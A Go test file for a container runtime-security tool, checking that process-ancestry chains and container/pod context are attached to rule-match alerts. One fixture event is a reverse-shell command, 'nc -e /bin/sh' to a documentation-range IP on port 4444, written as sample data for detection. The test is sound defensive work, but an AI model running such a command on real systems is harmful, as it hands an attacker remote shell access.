package alert

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/wardsec/ward/internal/runtime/event"
	"github.com/wardsec/ward/internal/runtime/rules"
)

// ancestryState: host init (1) -> conmon (50) -> container init sh (60,
// container c1) -> bash (61) -> nc (62); and a host shell 70 under 1.
func ancestryState(t *testing.T) *event.State {
	t.Helper()
	st := event.NewState(event.Options{})
	ctr := &event.Container{ID: "c1", Name: "web", Image: "alpine:3", PodName: "web-0", PodNamespace: "prod", PodUID: "u1"}
	evs := []event.Event{
		{TS: 1, Type: event.TypeContainerStart, ContainerID: "c1", Container: ctr},
		{TS: 2, Type: event.TypeExecve, PID: 1, Path: "/sbin/init", Comm: "init", Args: []string{"/sbin/init"}},
		{TS: 3, Type: event.TypeExecve, PID: 50, PPID: 1, Path: "/usr/bin/conmon", Comm: "conmon", Args: []string{"conmon"}},
		{TS: 4, Type: event.TypeExecve, PID: 60, PPID: 50, Path: "/bin/sh", Comm: "sh", Args: []string{"sh", "/app/run.sh"}, ContainerID: "c1"},
		{TS: 5, Type: event.TypeExecve, PID: 61, PPID: 60, Path: "/bin/bash", Comm: "bash", Args: []string{"bash", "-i"}, ContainerID: "c1", UID: 1000, EUID: 1000},
		{TS: 6, Type: event.TypeExecve, PID: 62, PPID: 61, Path: "/bin/nc", Comm: "nc", Args: []string{"nc", "-e", "/bin/sh", "198.51.100.7", "4444"}, ContainerID: "c1"},
		{TS: 7, Type: event.TypeExecve, PID: 70, PPID: 1, Path: "/bin/sh", Comm: "sh", Args: []string{"sh", strings.Repeat("x", 5000)}},
	}
	for i := range evs {
		evs[i].LoginUID = -1
		st.Apply(&evs[i])
	}
	return st
}

func chain(as []Ancestor) string {
	var parts []string
	for _, a := range as {
		s := a.Comm
		if a.ContainerInit {
			s += "*"
		}
		parts = append(parts, s)
	}
	return strings.Join(parts, "<")
}

func TestAncestry(t *testing.T) {
	st := ancestryState(t)
	tests := []struct {
		name string
		pid  int32
		max  int
		want string
	}{
		{"container process stops at the container init", 62, 0, "nc<bash<sh*"},
		{"bounded", 62, 2, "nc<bash"},
		{"host process up to PID 1", 70, 0, "sh<init"},
		{"runtime up to PID 1", 50, 0, "conmon<init"},
		{"unknown pid", 999, 0, ""},
		{"limit capped", 62, 1000, "nc<bash<sh*"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := chain(Ancestry(st, tc.pid, tc.max)); got != tc.want {
				t.Errorf("got %q, want %q", got, tc.want)
			}
		})
	}
	as := Ancestry(st, 62, 0)
	if a := as[1]; a.PID != 61 || a.PPID != 60 || a.UID != 1000 || a.Exe != "/bin/bash" || a.ContainerID != "c1" || a.Start == "" || strings.Join(a.Args, " ") != "bash -i" {
		t.Errorf("bash entry %+v", a)
	}
	long := Ancestry(st, 70, 1)[0]
	if !long.Truncated || len(long.Args[1]) != maxArgLen {
		t.Errorf("args not bounded: truncated=%v len=%d", long.Truncated, len(long.Args[1]))
	}
	if Ancestry(nil, 1, 0) != nil {
		t.Error("nil state")
	}
}

func TestAncestryLoop(t *testing.T) {
	st := event.NewState(event.Options{})
	// two processes that claim each other as parent
	for _, ev := range []event.Event{
		{TS: 1, Type: event.TypeExecve, PID: 10, PPID: 11, Comm: "a", LoginUID: -1},
		{TS: 2, Type: event.TypeExecve, PID: 11, PPID: 10, Comm: "b", LoginUID: -1},
	} {
		st.Apply(&ev)
	}
	if got := chain(Ancestry(st, 10, 0)); got != "a<b" {
		t.Errorf("loop: %q", got)
	}
}

// TestAlertContext: the alert of a rule match carries the ancestry and the
// container/pod identity in JSON; Falco's proc.aname[N] / proc.apid[N]
// output fields render from the same process table, and a condition on
// them fires only for the matching chain.
func TestAlertContext(t *testing.T) {
	st := ancestryState(t)
	src := `
- rule: Shell grandchild of sh
  desc: t
  condition: evt.type = connect and proc.aname[2] = sh
  output: "conn (proc=%proc.name parent=%proc.aname[1] gp=%proc.aname[2] gppid=%proc.apid[2])"
  priority: WARNING
`
	eng, err := rules.LoadSources([]rules.Source{{Name: "t.yaml", Data: []byte(src)}}, rules.Options{})
	if err != nil {
		t.Fatal(err)
	}
	eval := func(pid int32) []Alert {
		ev := event.Event{TS: 10, Type: event.TypeConnect, PID: pid, TID: pid, FD: 3, LoginUID: -1}
		st.Apply(&ev)
		var out []Alert
		eng.Eval(&ev, st, func(m *rules.Match) {
			a := FromMatch(m)
			AddContext(&a, st, ev.PID, 0)
			out = append(out, a)
		})
		return out
	}
	got := eval(62)
	if len(got) != 1 {
		t.Fatalf("%d alerts for nc (grandparent sh), want 1", len(got))
	}
	a := got[0]
	if a.OutputFields["proc.aname[2]"] != "sh" || a.OutputFields["proc.apid[2]"] != int64(60) || a.OutputFields["proc.aname[1]"] != "bash" {
		t.Errorf("output fields %v", a.OutputFields)
	}
	if chain(a.Ancestry) != "nc<bash<sh*" || a.Container == nil || a.Container.PodName != "web-0" || a.Container.PodUID != "u1" || a.Container.Image != "alpine:3" {
		t.Errorf("context %+v %+v", a.Ancestry, a.Container)
	}
	b, _ := json.Marshal(a)
	for _, want := range []string{`"ancestry":[{"pid":62,"ppid":61`, `"container_init":true`, `"container":{"id":"c1","name":"web"`} {
		if !strings.Contains(string(b), want) {
			t.Errorf("JSON lacks %s: %s", want, b)
		}
	}
	// bash's grandparent is conmon: no alert.
	if got := eval(61); len(got) != 0 {
		t.Errorf("bash (grandparent conmon) fired: %v", got[0].Output)
	}
	// host process: no container in the alert.
	var h Alert
	AddContext(&h, st, 70, 0)
	if h.Container != nil || chain(h.Ancestry) != "sh<init" {
		t.Errorf("host context %+v", h)
	}
}
